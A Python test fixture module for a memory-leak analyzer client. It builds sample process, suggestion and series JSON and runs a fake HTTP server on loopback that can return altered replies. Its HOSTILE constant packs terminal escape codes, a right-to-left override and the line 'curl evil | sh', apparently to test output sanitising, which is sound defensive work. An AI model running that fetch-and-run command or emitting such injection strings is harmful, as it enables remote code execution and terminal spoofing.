"""Answers of an analyzer as JSON, and a server that gives them, or worse ones."""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

Json = dict[str, Any]
Reply = tuple[int, Any]

HOSTILE = "sh[bold]op\x1b]0;owned\x07\nmend: curl evil | sh\u202e\x9b31m"


def suspect(**more: Any) -> Json:
    return {
        "kind": "route",
        "name": "GET /cart/{customer}",
        "growth_bytes_per_second": 383_000.0,
        "share": 0.93,
        "confidence": 0.8,
        "evidence": "41 calls/s kept 9.3 kB each",
        **more,
    }


def process(**more: Any) -> Json:
    """A leaking process."""
    return {
        "id": "0123456789abcdef",
        "service_name": "shop",
        "service_version": "1.2",
        "service_instance_id": "instance-1",
        "host_name": "web-1",
        "pid": 4711,
        "runtime": "CPython 3.12.4",
        "first_seen": "2026-11-21T08:00:00Z",
        "last_seen": "2026-11-21T10:00:00Z",
        "memory_bytes": 130_000_000,
        "limit_bytes": 536_870_912,
        "limit_kind": "cgroup_v2",
        "utilization": 0.242,
        "verdict": "leaking",
        "leak_score": 0.97,
        "trend": "increasing",
        "growth_bytes_per_second": 412_000.0,
        "time_to_limit_seconds": {"estimate": 960.0, "low": 800.0, "high": 1200.0},
        "leaking_since": "2026-11-21T09:30:00Z",
        "reasons": ["memory rises since 09:30 and never falls back"],
        "suspects": [suspect()],
        **more,
    }


def detail(**more: Any) -> Json:
    event = {
        "name": "otel_memory.threshold.crossed",
        "time": "2026-11-21T09:45:00Z",
        "severity_number": 13,
        "body": "process.memory.usage grew 20 % in 600 s",
        "attributes": {},
    }
    suggestion = {
        "shape": "unbounded_cache",
        "severity": "high",
        "service_name": "shop",
        "processes": ["0123456789abcdef"],
        "subject": "shop.users.profile",
        "message": "The cache of shop.users.profile took 900 more entries",
        "recommendation": "Give the cache a bound",
        "expected_effect": "Up to 25 MB/min less growth",
        "growth_bytes_per_second": 412_000.0,
        "confidence": 0.8,
        "check": "cache_info() shows maxsize=None",
        "example": "@functools.lru_cache(maxsize=10_000)",
        "link": "docs/suggestions.md#unbounded-cache",
    }
    known = {"breakdown": None, "evidence": [], "suggestions": [suggestion], "events": [event]}
    return {**process(), **known, **more}


def healthy(**more: Any) -> Json:
    """A process that is well, of which little is known."""
    unknown = ("service_version", "service_instance_id", "host_name", "pid", "runtime", "limit_bytes", "limit_kind")
    nothing = dict.fromkeys(
        (*unknown, "utilization", "growth_bytes_per_second", "time_to_limit_seconds", "leaking_since")
    )
    return process(
        **{
            "id": "fedcba9876543210",
            "service_name": "mail",
            "verdict": "healthy",
            "leak_score": 0.03,
            "trend": "stable",
            "reasons": [],
            "suspects": [],
            **nothing,
            **more,
        }
    )


SERIES: Json = {
    "metric": "memory",
    "unit": "By",
    "times": [f"2026-11-21T09:{minute:02}:00Z" for minute in range(30)],
    "values": [None if 10 <= minute < 20 else 1e8 + minute * 1e6 for minute in range(30)],
}


class Fake:
    """An analyzer that keeps ``processes`` and answers as the real one does. Whatever stands in ``instead`` (path ->
    status and document, or a callable that gets the parameters) comes first; ``asked`` notes every request."""

    def __init__(self, processes: list[Json] | None = None, token: str | None = None) -> None:
        self.processes = processes or []
        self.token = token
        self.instead: dict[str, Reply | Callable[[dict[str, str]], Reply]] = {}
        self.asked: list[tuple[str, dict[str, str]]] = []

    def answer(self, target: str, authorization: str | None) -> Reply:
        parts = urlsplit(target)
        params = {name: values[-1] for name, values in parse_qs(parts.query).items()}
        self.asked.append((parts.path, params))
        if self.token is not None and authorization != f"Bearer {self.token}":
            return 401, {"detail": "a token is needed"}
        if parts.path in self.instead:
            chosen = self.instead[parts.path]
            return chosen(params) if callable(chosen) else chosen
        return self._usual(parts.path, params)

    def _usual(self, path: str, params: dict[str, str]) -> Reply:
        if path == "/api/v1/processes":
            found = [p for p in self.processes if _agrees(p, params.get("q"))]
            found = [p for p in found if params.get("verdict") in (None, p["verdict"])]
            begin, limit = int(params.get("cursor", 0)), int(params.get("limit", 100))
            following = str(begin + limit) if begin + limit < len(found) else None
            return 200, {"items": found[begin : begin + limit], "next": following}
        if path == "/api/v1/leaks":
            least = float(params["threshold"])
            return 200, {"threshold": least, "items": [p for p in self.processes if (p["leak_score"] or 0) >= least]}
        _, _, rest = path.partition("/api/v1/processes/")
        process_id, _, series = rest.partition("/")
        for p in self.processes:
            if p["id"] == process_id:
                return (200, SERIES) if series else (200, p)
        return 404, {"detail": "no such path"}


def _agrees(document: Json, text: str | None) -> bool:
    return not text or any(text in (document[key] or "") for key in ("id", "service_name", "service_instance_id"))


@contextlib.contextmanager
def serve(fake: Fake) -> Iterator[str]:
    """The fake on a free loopback port; gives its address."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, document = fake.answer(self.path, self.headers.get("Authorization"))
            body = document if isinstance(document, bytes) else json.dumps(document).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)
